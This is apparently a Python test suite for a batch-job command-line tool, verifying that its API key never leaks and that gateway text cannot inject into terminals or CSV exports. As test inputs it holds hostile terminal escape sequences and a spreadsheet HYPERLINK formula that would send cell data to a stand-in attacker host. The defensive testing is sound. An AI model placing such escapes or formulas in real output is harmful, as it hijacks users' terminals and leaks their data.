"""The key is nowhere but in its header; text from outside drives neither terminal nor spreadsheet."""

import json
import signal
import unicodedata
from pathlib import Path
from typing import Any

import pytest

HOSTILE = "\x1b]0;owned\x07\x1b[31mred\x1b[0m\r\x9b1A\u202egnp\u200b"
ALLOWED = {"\n"}


def hostile(code: str) -> dict[str, Any]:
    """A refusal whose every word tries to drive the terminal."""
    return {"code": f"{code}{HOSTILE}", "message": f"told {HOSTILE}", "data": None}


def quiet(text: str) -> bool:
    """Whether nothing in a command's words can steer a terminal or turn the writing round."""
    return not [char for char in text if unicodedata.category(char) in ("Cc", "Cf") and char not in ALLOWED]


def proc(pid: int, name: str) -> bytes:
    """A file of a process."""
    return Path(f"/proc/{pid}/{name}").read_bytes()


def children(pid: int) -> list[int]:
    """The processes that a process has started."""
    return [int(child) for child in proc(pid, f"task/{pid}/children").split()]


# --- the key ------------------------------------------------------------------------------------------


def test_the_key_from_a_file_is_in_no_process_argument_and_no_environment(desk: Any, sim: Any) -> None:
    """Of a run that takes its key from a file, and of all that it starts."""
    sim.start(generation_seconds=100_000)
    desk.write("ant")
    secret = desk.folder.parent / "key"
    secret.write_text(desk.key)
    secret.chmod(0o600)
    arguments = ("run", "batch.yaml", *desk.at_gateway(), "--api-key-file", str(secret))
    run = desk.start(*arguments, key=None).reached(1, "accepted")
    for pid in [run.process.pid, *children(run.process.pid)]:
        assert desk.key.encode() not in proc(pid, "cmdline") + proc(pid, "environ")
    run.send(signal.SIGTERM)
    assert run.ended().code == 143
    desk.check_key()


def test_the_simulator_of_a_run_does_not_get_the_key(desk: Any) -> None:
    """With --simulate and a real key in the environment, the simulated gateway's process doesn't have it."""
    desk.directory = desk.folder / "batch.simulated"
    desk.write("ant")
    (desk.folder / "night.yaml").write_text("generation_seconds: 100000\n", encoding="utf-8")
    run = desk.start("run", "batch.yaml", "--simulate", "--scenario", "night.yaml").reached(1, "accepted")
    (simulator,) = children(run.process.pid)
    assert b"simulator" in proc(simulator, "cmdline")
    assert desk.key.encode() not in proc(simulator, "cmdline") + proc(simulator, "environ")
    run.send(signal.SIGTERM)
    run.ended()
    desk.check_key()


def test_a_systemd_credential_is_a_key(desk: Any, sim: Any) -> None:
    """The file `easyrouter_api_key` in $CREDENTIALS_DIRECTORY, which systemd makes, is read and not shown."""
    sim.start()
    desk.write("ant")
    credentials = desk.folder.parent / "credentials"
    credentials.mkdir()
    (credentials / "easyrouter_api_key").write_text(f"{desk.key}\n")
    (credentials / "easyrouter_api_key").chmod(0o440)  # as systemd does for a group
    desk.environment["CREDENTIALS_DIRECTORY"] = str(credentials)
    desk.check(desk.do("run", "batch.yaml", *desk.at_gateway(), key=None), 0)


def test_a_refused_key_is_named_by_where_it_came_from(desk: Any, sim: Any) -> None:
    """Exit 4 says which of several keys it was, and never the key."""
    sim.start({"on": "models", "do": "401"})
    desk.write("ant")
    done = desk.run()
    assert done.code == 4
    assert "EASYROUTER_API_KEY" in done.stdout
    desk.check_key()


def test_no_core_dump_of_a_run_is_written(desk: Any, sim: Any) -> None:
    """A dump would hold the key: its size is limited to nothing, for good."""
    sim.start(generation_seconds=100_000)
    desk.write("ant")
    run = desk.start_run().reached(1, "accepted")
    (line,) = [line for line in proc(run.process.pid, "limits").splitlines() if b"core file size" in line]
    soft, hard = line.split()[4:6]
    assert {soft, hard} <= {b"0", b"1"}
    run.killed()


MISPLACED = [
    ("--base-url", "{key}"),
    ("--base-url", "https://{key}@gateway.invalid"),
    ("--base-url", "https://gateway.invalid/?key={key}"),
    ("--base-url", "http://gateway.invalid/{key}"),
    ("--base-url", "http://127.0.0.1:1/{key}"),
    ("--api-key-file", "{key}"),
    ("--only", "{key}"),
    ("-o", "/proc/{key}"),
]


@pytest.mark.parametrize("option", MISPLACED, ids=" ".join)
def test_a_key_that_stands_in_the_wrong_place_is_not_repeated(
    desk: Any, web_page: Any, option: tuple[str, str]
) -> None:
    """A slip of the hand ends with words about the option, without the key in them, a traceback or a file."""
    desk.write("ant")
    gateway = desk.at_gateway(web_page.url) if option[0] != "--base-url" else ["--time-scale", "0.0005"]
    loopback = "127.0.0.1" in option[1] or option[0] != "--base-url"
    given = (option[0], option[1].format(key=desk.key))
    done = desk.do("run", "batch.yaml", *(gateway if loopback else []), *given)
    assert done.code in (2, 4, 5), done.stderr
    assert done.stderr
    desk.check_key()


def test_no_redirect_is_followed_with_the_key(desk: Any, sim: Any, relay: Any, web_page: Any) -> None:
    """Whatever is redirected elsewhere, question, POST, poll or download, the other host hears nothing."""
    sim.start(usage_log=False)
    elsewhere = f"{web_page.url}/caught"
    relay.rule("submit", relay.says(307, b"", Location=elsewhere), "bee", times=1)
    for kind in ("poll", "content", "usage"):
        relay.rule(kind, relay.says(302, b"", Location=elsewhere), "ant", times=1)
    desk.write("ant", "bee", concurrency=1)
    desk.check(desk.run("--base-url", relay.url), 3)
    assert desk.states() == {"ant": "done", "bee": "in_doubt"}
    assert web_page.methods == []


# --- the terminal and the spreadsheet -----------------------------------------------------------------


def test_no_text_from_outside_drives_the_terminal(desk: Any, sim: Any, relay: Any) -> None:
    """Controls in prompts, errors, codes, states and the names of files reach no command's output raw."""
    desk.manifest = desk.folder / f"b{HOSTILE.replace('/', '')}.yaml"
    desk.directory = desk.manifest.with_suffix(".run")
    sim.start(usage_log=False)
    relay.rule("submit", relay.says(400, hostile("invalid_request")), "bee")
    relay.rule("submit", relay.says(500, hostile("strange")), "cat")
    relay.rule("submit", relay.says(502, f"<html>{HOSTILE}</html>"), "dog")

    def fail(answer: dict[str, Any]) -> None:
        error = {"code": f"Odd{HOSTILE}", "message": HOSTILE}
        answer["data"] |= {"status": "FAILURE", "fail_reason": HOSTILE, "data": {"error": error}}

    relay.rule("poll", relay.changed(fail), "elk")
    names = ("ant", "bee", "cat", "dog", "elk")
    desk.write(*({"id": name, "prompt": f"{name} {HOSTILE}", "labels": {"x": HOSTILE}} for name in names))
    desk.manifest.write_text(json.dumps(json.loads(desk.manifest.read_text("utf-8"))))  # as escapes
    folder = desk.directory.name
    told = [desk.run("--base-url", relay.url)]
    for command in (
        *(("plan", desk.manifest.name), ("validate", desk.manifest.name), ("status", folder)),
        *(("status", folder, name) for name in names),
        *(("resolve", folder), ("results", folder), ("retry", folder, HOSTILE), ("status", HOSTILE)),
        *(("run", f"no{HOSTILE}.yaml"), ("retry", folder, "--failed"), ("collect", f"x{HOSTILE}")),
    ):
        told.append(desk.do(*command))
    for done in told:
        assert quiet(done.stdout + done.stderr), ascii(done.stdout + done.stderr)
    assert [done.code for done in told[:9]] == [3, 0, 0, 3, 0, 0, 0, 0, 0]
    assert {task: state for task, state in desk.states().items() if task != "ant"} == {
        "bee": "pending",
        "cat": "in_doubt",
        "dog": "in_doubt",
        "elk": "pending",
    }


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r@", "\u200b="])
def test_no_formula_stands_in_a_column_that_the_network_fills(
    desk: Any, sim: Any, relay: Any, start: str
) -> None:
    """Codes and messages that a spreadsheet would carry out are text in the CSV; the user's own stays."""
    evil = f'{start}HYPERLINK("http://evil.invalid?"&A1)'
    sim.start()
    relay.rule("submit", relay.says(400, {"code": evil, "message": evil, "data": None}), "=bee")
    desk.write("ant", {"id": "bee", "prompt": "=bee", "labels": {"mine": "=1+1"}})
    assert desk.run("--base-url", relay.url).code == 1
    row = desk.row("bee")
    assert row["error_code"].startswith("'")
    assert row["error_message"].startswith("'")
    assert (row["prompt"], row["label.mine"]) == ("=bee", "=1+1")
